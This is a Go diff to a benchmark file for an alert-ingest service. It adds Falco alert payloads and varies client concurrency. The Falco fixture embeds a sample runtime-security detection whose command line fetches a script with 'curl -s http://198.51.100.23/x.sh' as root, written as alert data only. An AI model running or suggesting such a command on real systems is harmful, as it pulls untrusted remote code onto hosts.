@@ -9,6 +9,8 @@ import (
 	"net/http/httptest"
 	"path/filepath"
 	"runtime"
+	"slices"
+	"sync"
 	"sync/atomic"
 	"testing"
 	"time"
@@ -33,22 +35,39 @@ func payload(i int64) []byte {
 		i, time.Now().UTC().Format(time.RFC3339Nano), i))
 }
 
-// load posts b.N requests from 16 concurrent clients and reports events/s.
-func load(b *testing.B, url string) {
+// falcoPayload returns a falcosidekick body with a distinct uuid.
+func falcoPayload(i int64) []byte {
+	return []byte(fmt.Sprintf(`{"uuid":"3f1c6b0e-8a2d-4b7e-9c1a-%012d","output":"Notice Unexpected outbound connection (command=curl -s http://198.51.100.23/x.sh user=root k8s_ns=shop k8s_pod=cart-api-6d8f9c7b5-x2lkq)","priority":"Notice","rule":"Unexpected outbound connection destination","time":"%s","output_fields":{"container.id":"4b9e1d2c7a3f","evt.type":"connect","fd.cip":"10.42.3.17","fd.cport":48122,"fd.sip":"198.51.100.23","fd.sport":80,"k8s.ns.name":"shop","k8s.pod.name":"cart-api-6d8f9c7b5-x2lkq","proc.cmdline":"curl -s http://198.51.100.23/x.sh","proc.name":"curl","user.name":"root","user.uid":0},"source":"syscall","tags":["container","network"],"hostname":"worker-07"}`,
+		i, time.Now().UTC().Format(time.RFC3339Nano)))
+}
+
+// load posts b.N bodies from the given number of concurrent clients and
+// reports events/s and the 99th percentile acknowledgement latency.
+func load(b *testing.B, url string, clients int, body func(int64) []byte) {
 	var n atomic.Int64
-	client := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: 64, MaxConnsPerHost: 64}}
-	b.SetParallelism(max(1, 16/runtime.GOMAXPROCS(0)))
+	client := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: clients, MaxConnsPerHost: clients}}
+	b.SetParallelism(max(1, clients/runtime.GOMAXPROCS(0)))
+	var mu sync.Mutex
+	var lat []time.Duration
 	b.ResetTimer()
 	start := time.Now()
 	b.RunParallel(func(pb *testing.PB) {
+		var mine []time.Duration
+		defer func() {
+			mu.Lock()
+			lat = append(lat, mine...)
+			mu.Unlock()
+		}()
 		for pb.Next() {
-			resp, err := client.Post(url, "application/json", bytes.NewReader(payload(n.Add(1))))
+			t0 := time.Now()
+			resp, err := client.Post(url, "application/json", bytes.NewReader(body(n.Add(1))))
 			if err != nil {
 				b.Error(err)
 				return
 			}
 			_, _ = io.Copy(io.Discard, resp.Body)
 			resp.Body.Close()
+			mine = append(mine, time.Since(t0))
 			if resp.StatusCode != http.StatusAccepted {
 				b.Errorf("status %d", resp.StatusCode)
 				return
@@ -56,48 +75,63 @@ func load(b *testing.B, url string) {
 		}
 	})
 	b.ReportMetric(float64(b.N)/time.Since(start).Seconds(), "events/s")
+	if len(lat) > 0 {
+		slices.Sort(lat)
+		b.ReportMetric(float64(lat[len(lat)*99/100].Microseconds())/1000, "p99-ms")
+	}
 }
 
 // BenchmarkIngest compares the durable ingest path (decode, fsync'd group
 // commit to the bbolt inbox, 202) with a bare gin handler that only decodes
-// the same JSON, both over loopback HTTP with 16 concurrent clients.
+// the same JSON, both over loopback HTTP, for Alertmanager and Falco
+// payloads at 16 and 64 concurrent senders.
 func BenchmarkIngest(b *testing.B) {
-	b.Run("bare-gin-decode", func(b *testing.B) {
-		gin.SetMode(gin.ReleaseMode)
-		r := gin.New()
-		r.POST("/hooks/alertmanager", func(c *gin.Context) {
-			var m struct {
-				Alerts []struct {
-					Status      string            `json:"status"`
-					Labels      map[string]string `json:"labels"`
-					Annotations map[string]string `json:"annotations"`
-					StartsAt    time.Time         `json:"startsAt"`
-					Fingerprint string            `json:"fingerprint"`
-				} `json:"alerts"`
-			}
-			if err := json.NewDecoder(c.Request.Body).Decode(&m); err != nil {
-				c.AbortWithStatus(http.StatusBadRequest)
-				return
-			}
-			c.JSON(http.StatusAccepted, gin.H{"accepted": len(m.Alerts), "duplicates": 0})
-		})
-		srv := httptest.NewServer(r)
-		defer srv.Close()
-		load(b, srv.URL+"/hooks/alertmanager")
-	})
-	b.Run("durable-inbox", func(b *testing.B) {
-		db, err := store.Open(filepath.Join(b.TempDir(), "firebreak.db"), store.Options{})
-		if err != nil {
-			b.Fatal(err)
+	for _, src := range []struct {
+		name string
+		body func(int64) []byte
+		dec  sources.Decoder
+	}{{"alertmanager", payload, sources.Alertmanager{}}, {"falco", falcoPayload, sources.Falco{}}} {
+		for _, clients := range []int{16, 64} {
+			b.Run(fmt.Sprintf("%s/c%d/bare-gin-decode", src.name, clients), func(b *testing.B) {
+				benchBare(b, src.name, clients, src.body)
+			})
+			b.Run(fmt.Sprintf("%s/c%d/durable-inbox", src.name, clients), func(b *testing.B) {
+				benchDurable(b, src.name, clients, src.body, src.dec)
+			})
 		}
-		defer db.Close()
-		s := web.New(web.Config{Inbox: db, Audit: db, Engine: nopEngine{}, Sources: map[string]web.Source{"alertmanager": {Decoder: sources.Alertmanager{}}}})
-		srv := httptest.NewServer(s)
-		defer srv.Close()
-		load(b, srv.URL+"/hooks/alertmanager")
-		commits, fns := db.CommitStats()
-		if commits > 0 {
-			b.ReportMetric(float64(fns)/float64(commits), "requests/commit")
+	}
+}
+
+// benchBare serves a gin handler that only decodes the body into a generic
+// JSON value, the least any receiver must do.
+func benchBare(b *testing.B, name string, clients int, body func(int64) []byte) {
+	gin.SetMode(gin.ReleaseMode)
+	r := gin.New()
+	r.POST("/hooks/"+name, func(c *gin.Context) {
+		var m map[string]any
+		if err := json.NewDecoder(c.Request.Body).Decode(&m); err != nil {
+			c.AbortWithStatus(http.StatusBadRequest)
+			return
 		}
+		c.JSON(http.StatusAccepted, gin.H{"accepted": 1, "duplicates": 0})
 	})
+	srv := httptest.NewServer(r)
+	defer srv.Close()
+	load(b, srv.URL+"/hooks/"+name, clients, body)
+}
+
+func benchDurable(b *testing.B, name string, clients int, body func(int64) []byte, dec sources.Decoder) {
+	db, err := store.Open(filepath.Join(b.TempDir(), "firebreak.db"), store.Options{})
+	if err != nil {
+		b.Fatal(err)
+	}
+	defer db.Close()
+	s := web.New(web.Config{Inbox: db, Audit: db, Engine: nopEngine{}, Sources: map[string]web.Source{name: {Decoder: dec}}})
+	srv := httptest.NewServer(s)
+	defer srv.Close()
+	load(b, srv.URL+"/hooks/"+name, clients, body)
+	commits, fns := db.CommitStats()
+	if commits > 0 {
+		b.ReportMetric(float64(fns)/float64(commits), "requests/commit")
+	}
 }
